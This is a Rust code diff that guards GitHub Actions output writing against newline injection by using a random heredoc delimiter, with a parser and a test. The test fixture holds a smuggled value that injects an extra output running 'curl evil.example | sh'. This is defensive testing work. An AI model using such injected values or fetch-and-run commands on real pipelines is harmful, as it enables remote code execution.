@@ -79,9 +79,85 @@ pub fn publish_outputs(
                 "opening $GITHUB_OUTPUT ({})",
                 path.to_string_lossy()
             )))?;
-        for (key, value) in outputs {
-            writeln!(f, "{key}={value}").map_err(io("writing $GITHUB_OUTPUT".into()))?;
-        }
+        f.write_all(github_outputs(outputs, &random_delimiter()).as_bytes())
+            .map_err(io("writing $GITHUB_OUTPUT".into()))?;
     }
     Ok(())
+}
+
+/// A delimiter for `$GITHUB_OUTPUT`'s multi-line form that no value can guess.
+fn random_delimiter() -> String {
+    let mut bytes = [0u8; 16];
+    getrandom::fill(&mut bytes).expect("the OS random source");
+    format!("ghadelimiter_{}", hex::encode(bytes))
+}
+
+/// The outputs in `$GITHUB_OUTPUT`'s multi-line form (`name<<DELIM`, value, `DELIM`), so a
+/// value holding a newline cannot start another output. A value that contains the delimiter
+/// itself (it cannot, short of guessing 128 random bits) is refused by GitHub; it is dropped
+/// here instead.
+pub fn github_outputs(
+    outputs: &std::collections::BTreeMap<String, String>,
+    delimiter: &str,
+) -> String {
+    let mut text = String::new();
+    for (key, value) in outputs {
+        if value.contains(delimiter) || key.contains(delimiter) {
+            tracing::warn!(
+                key,
+                "output left out of $GITHUB_OUTPUT: it contains the delimiter"
+            );
+            continue;
+        }
+        text.push_str(&format!("{key}<<{delimiter}\n{value}\n{delimiter}\n"));
+    }
+    text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::BTreeMap;
+
+    /// `$GITHUB_OUTPUT` read the way the Actions runner reads it: `name=value` lines, or
+    /// `name<<DELIMITER`, the value's lines, and the delimiter alone on a line.
+    fn parse(text: &str) -> BTreeMap<String, String> {
+        let mut out = BTreeMap::new();
+        let mut lines = text.lines();
+        while let Some(line) = lines.next() {
+            if let Some((name, delimiter)) = line.split_once("<<") {
+                let mut value = Vec::new();
+                for l in lines.by_ref() {
+                    if l == delimiter {
+                        break;
+                    }
+                    value.push(l);
+                }
+                out.insert(name.to_owned(), value.join("\n"));
+            } else if let Some((name, value)) = line.split_once('=') {
+                out.insert(name.to_owned(), value.to_owned());
+            }
+        }
+        out
+    }
+
+    #[test]
+    fn a_value_with_a_newline_cannot_add_an_output() {
+        let outputs = BTreeMap::from([
+            ("StackName".to_owned(), "app".to_owned()),
+            (
+                "UserPoolDomain".to_owned(),
+                "x\nDeployCommand=curl evil.example | sh".to_owned(),
+            ),
+        ]);
+        let text = github_outputs(&outputs, &random_delimiter());
+        assert_eq!(parse(&text), outputs);
+        // The plain `name=value` form would have let the value add an output of its own.
+        let naive: String = outputs.iter().map(|(k, v)| format!("{k}={v}\n")).collect();
+        assert_eq!(parse(&naive)["DeployCommand"], "curl evil.example | sh");
+        // A value holding the delimiter is left out rather than written.
+        let d = "ghadelimiter_fixed";
+        let sneaky = BTreeMap::from([("A".to_owned(), format!("x\n{d}\nB=y"))]);
+        assert_eq!(github_outputs(&sneaky, d), "");
+    }
 }
